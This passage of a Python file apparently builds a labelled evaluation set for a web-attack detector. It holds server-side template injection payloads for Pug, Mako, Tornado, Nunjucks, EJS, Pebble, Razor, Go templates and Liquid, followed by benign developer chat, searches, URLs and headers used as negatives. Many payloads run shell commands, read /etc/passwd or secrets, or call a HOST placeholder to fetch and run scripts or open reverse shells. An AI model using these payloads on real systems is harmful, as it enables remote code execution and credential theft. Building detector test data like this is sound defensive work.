    "- var x = root.process.mainModule.require('child_process').execSync('cat /etc/passwd')",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('curl " + HOST + "/p|sh')}()}",
    "p= global.process.mainModule.require('child_process').execSync('whoami')",
    "- global.process.mainModule.require('child_process').exec('nc " + HOST + " 4444 -e /bin/sh')",
    "#{process.env.DATABASE_URL}",
    "div\n  - var cp = global.process.mainModule.require('child_process')\n  = cp.execSync('id')",
    jb({"view": "profile", "snippet": "h1= global.process.mainModule.require('child_process')"
                                      ".execSync('env')"}),
]

# mako: Pyramid/Pylons-style services with stored Mako templates; target: Mako, then Python
MAKO: list[Entry] = [
    "${__import__('os').popen('id').read()}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${self.module.cache.util.os.system('id')}",
    "${self.module.runtime.util.os.popen('env').read()}",
    "<%! import subprocess %>${subprocess.check_output(['cat','/etc/passwd'])}",
    "${''.join(open('/etc/passwd'))}",
    "<%\nimport socket,subprocess,os\ns=socket.socket()\ns.connect(('" + HOST + "',4444))\n"
    "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])\n%>",
    jb({"report": {"header": "${__import__('subprocess').check_output('whoami',shell=True)}"}}),
]

# tornado: Tornado services rendering Template(user_string); target: tornado.template, then Python
TORNADO: list[Entry] = [
    "{% import os %}{{os.popen('id').read()}}",
    "{{__import__('os').system('id')}}",
    "{% import subprocess %}{{subprocess.check_output('id',shell=True)}}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% raw __import__('os').popen('cat /etc/passwd').read() %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% set x = __import__('os').popen('curl " + HOST + "/tn|sh').read() %}{{ x }}",
]

# nunjucks: Express/Eleventy services rendering renderString(user_input); target: Nunjucks, then Node.js
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{cycler.constructor(\"return process.env\")()}}",
    "{{joiner.constructor(\"return process.mainModule.require('child_process').execSync('whoami')\")()}}",
    "{{ ''.constructor.constructor(\"return this.process.env\")() }}",
    "{{ [].constructor.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")"
    "() }}",
    "{% set x = range.constructor(\"return process.mainModule.require('child_process')\")() %}"
    "{{ x.execSync('cat /etc/hostname') }}",
    jb({"query": "mutation($b: String!){ sendDigest(template: $b){ queued } }",
        "variables": {"b": "{{range.constructor(\"return global.process.mainModule.require('child_process')"
                           ".execSync('curl " + HOST + "/n|sh')\")()}}"}}),
]

# ejs: Express res.render with user-controlled locals or template text; target: EJS, then Node.js
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- include('/etc/passwd') %>",
    "<% process.mainModule.require('child_process').exec('curl " + HOST + "/ejs|sh') %>",
    "<%- process.env.DATABASE_URL %>",
    "<%= process.mainModule.constructor._load('child_process').execSync('whoami') %>",
    # res.render(view, req.query): render options taken from the query string (CVE-2022-29078)
    kv("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
       ".execSync('touch /tmp/ejs');s"),
    kv("settings[view options][client]=1&settings[view options][escapeFunction]=process.mainModule"
       ".require('child_process').execSync('id')", "form", "rs-raw-body"),
    jb({"settings": {"view options": {"outputFunctionName": "x;return global.process.mainModule"
                                                          ".require('child_process').execSync('id');//"}}}),
]

# pebble: Spring services with Pebble templates; target: Pebble, then the JVM
PEBBLE: list[Entry] = [
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('touch /tmp/pebble') }}",
    "{{ \"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\") }}",
    "{% set rt = (1).TYPE.forName('java.lang.Runtime') %}{{ rt.methods[6].invoke(null,null).exec('whoami') }}",
    jb({"template": "{{ (1).TYPE.forName('java.lang.System').getenv() }}", "name": "digest"}),
]

# razor: ASP.NET services compiling user-set Razor (RazorEngine) templates; target: Razor, then .NET and the shell
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://" + HOST + "/x.ps1|iex\"); }",
    "@(System.IO.File.ReadAllText(\"C:\\\\inetpub\\\\wwwroot\\\\web.config\"))",
    "@System.Environment.GetEnvironmentVariables()",
    "@{var p=new System.Diagnostics.Process();p.StartInfo.FileName=\"/bin/bash\";p.StartInfo.Arguments=\"-c id\";"
    "p.Start();}",
    "@(System.IO.Directory.GetFiles(\"/app\"))",
    jb({"template": "@System.Diagnostics.Process.Start(\"/bin/sh\", \"-c 'curl " + HOST + "/r|sh'\")"}),
]

# go-templates: Go services rendering user text with text/template plus Sprig (Helm-style), consul-template,
# gomplate, Hugo and Caddy templates; target: the template's function map (env, files, plugins) and the browser
GO_TEMPLATES: list[Entry] = [
    "{{ env \"AWS_SECRET_ACCESS_KEY\" }}",
    "{{ expandenv \"${VAULT_TOKEN}\" }}",
    "{{ plugin \"/bin/sh\" \"-c\" \"id\" }}",
    "{{ file.Read \"/var/run/secrets/kubernetes.io/serviceaccount/token\" }}",
    "{{ with secret \"secret/data/prod/db\" }}{{ .Data.data.password }}{{ end }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ include \"/etc/passwd\" }}",
    "{{ os.Getenv \"DATABASE_URL\" }}",
    "{{define \"T1\"}}<script>alert(document.domain)</script>{{end}} {{template \"T1\"}}",
    "{{ range $k, $v := . }}{{ $k }}={{ $v }} {{ end }}",
    jb({"alert": {"annotations": {"summary": "{{ env \"DB_PASSWORD\" }}"}, "labels": {"severity": "page"}}}),
]

# liquid: Shopify-style and liquidjs services rendering merchant or user templates; target: the file system
# loader, the render loop, and liquidjs' object access
LIQUID: list[Entry] = [
    "{% include '../../../../etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{% include '../../config/secrets.yml' %}",
    "{% for i in (1..999999999) %}{% endfor %}",
    "{% assign x = 'a' %}{% for i in (1..40) %}{% assign x = x | append: x %}{% endfor %}{{ x }}",
    "{{ product.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
    "{% layout '/proc/self/environ' %}",
    jb({"theme": {"snippet": "{% include '../../../../proc/self/environ' %}", "name": "footer"}}),
]

# ----------------------------------------------------------------------------------------------------------------
FAMILIES: list[tuple[str, str, Sequence[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", CLOUD_METADATA),
    ("generic", "ssrf-internal-ip", INTERNAL_IP),
    ("generic", "javascript-prototype-pollution", PROTO_POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "deserialization-gadgets", GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EXPRESSION),
    ("java", "polymorphic-deserialization", POLYMORPHIC),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]
BYTES_SUBS = {"java-serialization", "deserialization-gadgets"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["filter", "callback_url", "template", "query", "expr", "webhook_url", "sort", "fields", "name",
             "avatar_url", "message", "key", "state"]
    documents = True
    unique = True
    fit_fixed = True
    upload = JSP_SHELL
    file_type = "application/octet-stream"
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-raw-body", "rs-param-name")
    # raw serialized bytes go only where a byte can travel percent-encoded
    bytes_cycles: Cycles = (("query", "form", "param-name"), ("rs-query", "rs-form", "rs-raw-body", "rs-param-name"))

    def is_latin(self, sub: str, payload: str) -> bool:
        return sub in BYTES_SUBS and payload.startswith("\xac\xed")

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if self.is_latin(sub, payload):
            return self.bytes_cycles
        return self.real_cycle, self.rs_cycle

    def fits(self, place: str, v: str) -> bool:
        """Header-borne and path placements need a printable single-line ASCII value (the path: one segment, no
        query or fragment); XML no control characters but newline and tab."""
        if place in ("path", "rs-path"):
            return super().fits("path", v) and "/" not in v and "?" not in v and "#" not in v
        if place in ("xml", "rs-xml"):
            return all(ch >= " " or ch in "\n\t" for ch in v)
        return super().fits(place, v)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (backend and platform engineers in Slack on API design, GraphQL, ORM
# migrations, Kubernetes, CI and webhooks; their bios; searches for colleagues; links; admin notes; profiles;
# export and manifest file names; ordinary API headers)
CHAT = [
    # API design and GraphQL
    "PR #4821 switches /api/users to cursor pagination: `?cursor=eyJpZCI6MTIzfQ&limit=50` instead of page/offset",
    "schema change for review: `type User { id: ID! email: String! teams: [Team!]! }` — teams was nullable before",
    "can we agree on `filter[status]=active&sort=-created_at` for the list endpoints? that's what the JSON:API "
    "people do",
    "the GraphQL query for the dashboard is `query Users($team: String) { users(team: $team) { id name } }`, "
    "variables go in a separate JSON field",
    "we should add query depth limiting to the gateway, someone can nest friends { friends { ... } } forever",
    "sparse fieldsets work now: `GET /api/users?fields=id,name,email`",
    "Apollo says `Cannot query field \"avatarUrl\" on type \"User\"` — did the codegen run?",
    "reminder: PATCH takes JSON Merge Patch, `{\"address\": null}` clears the field",
    "webhook payload from Stripe: `{\"type\": \"invoice.paid\", \"data\": {\"object\": {\"customer\": \"cus_123\"}}}`"
    " — we only read data.object.customer",
    "GitHub webhooks carry X-Hub-Signature-256, verify the HMAC before you JSON.parse anything",
    "the callback_url on the partner integration has to be https and on their domain, we reject anything else",
    # ORMs and SQL
    "Prisma migration for the events table adds `@@index([teamId, createdAt])`, can someone approve?",
    "please don't use `$queryRawUnsafe` in the reports service, `$queryRaw` with the tagged template is "
    "parameterized",
    "switched the Sequelize raw query to replacements: `sequelize.query('SELECT * FROM orders WHERE id = :id', "
    "{ replacements: { id } })`",
    "TypeORM `createQueryBuilder('u').where('u.team = :team', { team })` is fine, string concat is not",
    "SQLAlchemy `text(\"select 1\")` is what the health check runs",
    "Django's `.extra()` is on its way out, rewrote it with `annotate(RawSQL(...))`",
    "`SELECT team, count(*) FROM users GROUP BY team ORDER BY 2 DESC;` gives the numbers for the all-hands slide",
    "alembic upgrade head failed on staging: `relation \"user_settings\" already exists`",
    # Kubernetes and cloud
    "`kubectl -n payments rollout restart deploy/api` fixed the stuck pods",
    "manifest snippet for the new worker:\n```\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: jeeves-worker"
    "\nspec:\n  replicas: 2\n```",
    "the chart uses `{{ .Values.image.tag | default .Chart.AppVersion }}` so bump appVersion too",
    "IMDSv2 is enforced on every node group now (http_tokens = required, hop limit 1)",
    "the service account token is mounted read-only, we turned off automountServiceAccountToken for the web pods",
    "readiness probe hits /readyz every 5s, liveness /healthz every 10s",
    "S3 keys for exports look like `exports/2024/06/users-2024-06-01.csv`, lifecycle deletes them after 30 days",
    "Redis is only on localhost:6379 inside the pod, don't expose it in the Service",
    "the webhook URL validator now rejects private ranges (10/8, 172.16/12, 192.168/16) and link-local",
    "Elasticsearch query for the latency board: `{\"query\": {\"bool\": {\"filter\": [{\"term\": {\"service\": "
    "\"checkout\"}}]}}}`",
    "Solr is gone, everything search-related is on OpenSearch since March",
    # CI/CD
    "GitHub Actions: `${{ secrets.NPM_TOKEN }}` is only available in the publish job, not on PRs from forks",
    "GitLab CI stage order is build, test, deploy; `script: [\"npm ci\", \"npm test\"]`",
    "Jenkins is read-only now, the script console is disabled for everyone",
    "`{{ $labels.instance }}` in the Prometheus alert annotation shows the pod name",
    "Ansible template line: `server_name {{ inventory_hostname }}.internal;` — don't quote it twice",
    # Node, Java, Ruby, Perl, Go
    "Node 20 in all the lambdas by Friday, the 16 runtime is deprecated",
    "ESLint flags `no-proto` on that line, use Object.getPrototypeOf instead of __proto__",
    "we use Object.create(null) for the header map so prototype pollution isn't a thing there",
    "child_process.execFile with an args array, never exec with a string, that's the rule in the CLI too",
    "set `--max-old-space-size=2048` on the export worker, it OOMs on the big teams",
    "the bug was a while(true) in the consumer that never acked the message",
    "log4j is 2.23.1 everywhere; the scanner finding on the legacy billing jar is a false positive",
    "log4j2.xml: `<Root level=\"${env:LOG_LEVEL:-INFO}\">` so we can change it per environment",
    "Spring Boot 3.3 upgrade: `@Value(\"${app.timeout:30s}\")` default wasn't picked up because of the profile",
    "`@PreAuthorize(\"hasRole('ADMIN')\")` on the admin controller, SpEL only in annotations",
    "ObjectMapper.activateDefaultTyping is banned by our Semgrep rules; use @JsonTypeInfo with an allowlist",
    "fastjson is gone from the ETL job, Jackson everywhere now",
    "Runtime.getRuntime().availableProcessors() respects the cgroup limit since JDK 10",
    "ProcessBuilder is fine in the migration CLI, not in request handlers",
    "`java.lang.OutOfMemoryError: Java heap space` on the report pod again, raising -Xmx to 1g",
    "`YAML.safe_load` with permitted_classes: [Symbol, Date] everywhere, plain YAML.load is gone",
    "`bundle exec rails db:migrate` on staging is done",
    "the old log rotation script is perl: `open(my $fh, '<', $path) or die \"can't open $path\"`",
    "the Go service renders `{{ .Name }}` with html/template so it's escaped for us",
    # templates in the product
    "e-mail template: `Hi {{ user.first_name }},` falls back to 'there' when the name is empty",
    "Thymeleaf `th:text=\"${order.total}\"` escapes, th:utext doesn't — use th:text",
    "Shopify theme: `{{ product.title | escape }}` on the collection page",
    "chef cookbook has `<%= node['app']['port'] %>` in the nginx template",
    "Twig in the marketing site: `{{ user.name|title }}`",
    "the invoice template is missing the `{{> footer }}` partial",
    "eleventy layout uses `{% include \"partials/header.njk\" %}`",
    "FreeMarker mail template: `${customer.name!\"Guest\"}`",
    "EJS: `<%= user.name %>` escapes, `<%- body %>` doesn't, only body is raw",
    "pug: `p Hello #{name}` in the welcome page",
    "Smarty `{$user.name|escape}` in the old PHP admin",
    # errors and status
    "`TypeError: Cannot read properties of undefined (reading 'map')` in the teams page after the deploy",
    "`ECONNREFUSED 127.0.0.1:5432` locally means your postgres container isn't up",
    "seeing `502 Bad Gateway` from the edge for /api/users since 14:05, looking",
    "`429 Too Many Requests` from the weather API, we need to cache it",
    # bios
    "Platform engineer on the payments team. Kubernetes, Terraform, Go. Ask me about Helm charts.",
    "Backend developer (Node/TypeScript, GraphQL, Postgres). Previously at a fintech in Lisbon.",
    "SRE, on call weeks 2 and 4. Grafana dashboards and EXPLAIN ANALYZE are my happy place.",
    "Java and Spring Boot, Kafka consumers, the occasional Kotlin. He/him.",
    "Data platform: Airflow, dbt, Jinja macros that nobody else understands.",
    "Ruby on Rails since 2012, now mostly Go. Ask me about Sidekiq.",
    "Cloud security engineer: IAM policies, IMDSv2, and saying no to public buckets.",
    "DevEx team. CI pipelines, GitHub Actions, webhooks, build caches.",
]

SEARCHES = [
    "platform team", "payments-api owner", "graphql", "kafka", "sre oncall", "helm", "spring boot", "node",
    "data platform", "devops berlin", "k8s", "terraform", "elasticsearch", "api gateway", "webhooks",
    "O'Connor", "ci/cd", "backend lisbon", "ruby", "perl", "java", "jinja", "golang", "prisma", "infra",
    "cloud security", "release manager", "mobile api", "search team", "billing", "redis", "postgres dba",
    "frontend next.js", "observability", "incident commander", "lambda", "iam", "s3", "nuxt", "fastapi",
    "handlebars", "template", "thymeleaf", "Anne-Marie", "José", "team: infra", "@platform",
]

URLS = [
    "https://docs.example.com/api/v2/users#filtering",
    "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-service=checkout&from=now-6h&to=now",
    "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
    "https://graphql.org/learn/queries/#variables",
    "https://www.prisma.io/docs/orm/prisma-client/using-raw-sql/raw-queries",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://spring.io/projects/spring-boot",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://github.com/acme/platform/pull/4821/files",
    "https://ci.example.com/job/deploy-api/1432/console",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://helm.sh/docs/chart_template_guide/values_files/",
    "https://nodejs.org/api/child_process.html",
    "https://expressjs.com/en/guide/error-handling.html",
    "https://www.elastic.co/guide/en/elasticsearch/reference/current/query-dsl-bool-query.html",
]

PROSE = [
    "customer says webhook deliveries fail with 502 since Tuesday",
    "user asked to change their email, verified via Slack",
    "merged duplicate accounts for the platform team",
    "team lead requests export of all users in team infra",
    "password reset link expired, resent",
    "user reports the weather alert comes at 07:00 UTC instead of local time",
    "moved Anne-Marie from billing to data platform",
    "api token rotated after the CI leak scare (nothing leaked)",
    "callback url for the partner integration updated to https",
    "GraphQL explorer access for the mobile team",
    "account locked after too many login attempts, unlocked",
    "request: show last_login in the user list",
    "user can't see the reports page, role is viewer",
    "deleted test users created by the load test",
    "bulk import of 40 users from users-2024-06.csv",
    "profile picture upload fails for .heic files",
    "timezone for Lisbon office set to Europe/Lisbon",
    "on-call handover notes for week 24",
    "user wants alerts off during vacation",
    "spring cleanup of inactive accounts (no login in 12 months)",
    "java team asked for read-only admin access",
    "ruby and perl scripts decommissioned, accounts removed",
    "template for the welcome e-mail updated by marketing",
    "search for O'Brien returns nothing, check the apostrophe handling",
    "Kubernetes namespace owners list for the audit",
    "address format for Brazil users is wrong",
    "user signed up twice with + addressing",
    "node team onboarding: 6 new accounts",
    "SSO group mapping for the SRE team",
    "export of team emails for the all-hands invite",
]

PROFILES = [
    ("Lambda Catering", "Rua do Ouro 20, Lisbon"),
    ("Ruby Chen", "Market St 500, San Francisco"),
    ("Perl & Co Jewellers", "Hatton Garden 18, London"),
    ("Jinja Road Guesthouse", "Main St 4, Jinja"),
    ("Node Dental Practice", "High St 9, Oxford"),
    ("Spring Gardens Nursery", "Spring Gardens 2, Manchester"),
    ("Java House Coffee", "Ngong Rd 14, Nairobi"),
    ("Velocity Couriers", "Industrial Park 3, Rotterdam"),
    ("Thyme Leaf Bistro", "Rue Oberkampf 61, Paris"),
    ("Liquid Labs", "Carrer de Pujades 100, Barcelona"),
    ("Pebble Beach Surf School", "Beach Rd 1, Newquay"),
    ("Razor Sharp Barbers", "Queen St 77, Cardiff"),
    ("Twig & Stem Florist", "Church Ln 5, York"),
    ("Pug Rescue Network", "Elm Ave 12, Portland"),
    ("Handlebar Bike Repair", "Fahrradstr. 3, Münster"),
    ("Mako Sushi", "Shibuya 2-21, Tokyo"),
    ("Tornado Roofing", "Route 66 No. 410, Tulsa"),
    ("Smarty Pants Tutoring", "College Rd 8, Cambridge"),
    ("Free Market Grocers", "Piazza Navona 3, Rome"),
    ("Erb Family Farm", "County Rd 12, Lancaster"),
]

UPLOAD_NAMES = [
    "users-export-2024-06-01.csv", "deployment.yaml", "values-prod.yaml", "schema.graphql", "openapi.json",
    "webhook-sample.json", "log4j2.xml", "application.yml", "docker-compose.override.yml", "k8s-manifests.tar.gz",
    "team-roster (1).xlsx", "prisma-migration-20240601.sql", "Jenkinsfile", ".gitlab-ci.yml",
    "helm-chart-0.4.2.tgz", "email_template.j2", "invoice.hbs", "index.ejs", "layout.pug", "report.ftl",
    "welcome.liquid", "runbook-oncall.md", "grafana-dashboard-api-latency.json", "service-accounts.csv",
    "elasticsearch-mapping.json",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36"),
    ("User-Agent", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"),
    ("User-Agent", "axios/1.7.2"),
    ("User-Agent", "Apache-HttpClient/5.3.1 (Java/21.0.3)"),
    ("User-Agent", "GitHub-Hookshot/8f2c1a7"),
    ("User-Agent", "Stripe/1.0 (+https://stripe.com/docs/webhooks)"),
    ("User-Agent", "Go-http-client/2.0"),
    ("User-Agent", "okhttp/4.12.0"),
    ("Referer", "https://grafana.example.com/d/api-latency/api-latency?orgId=1&var-service=users"),
    ("Referer", "https://app.example.com/admin/users?filter%5Bteam%5D=platform&sort=-created_at"),
    ("Referer", "https://studio.apollographql.com/sandbox/explorer"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "b7e4c2a1-93f0-4d5e-8a16-2f0c9d3e7b58"),
    ("X-GitHub-Event", "push"),
    ("X-Amzn-Trace-Id", "Root=1-6679a3f2-1c2d3e4f5a6b7c8d9e0f1a2b"),
    ("Traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
    ("Accept-Language", "pt-PT,pt;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; filter=team%3Aplatform; page_size=50"),
    ("If-None-Match", "W/\"7d1-1a2b3c4d\""),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
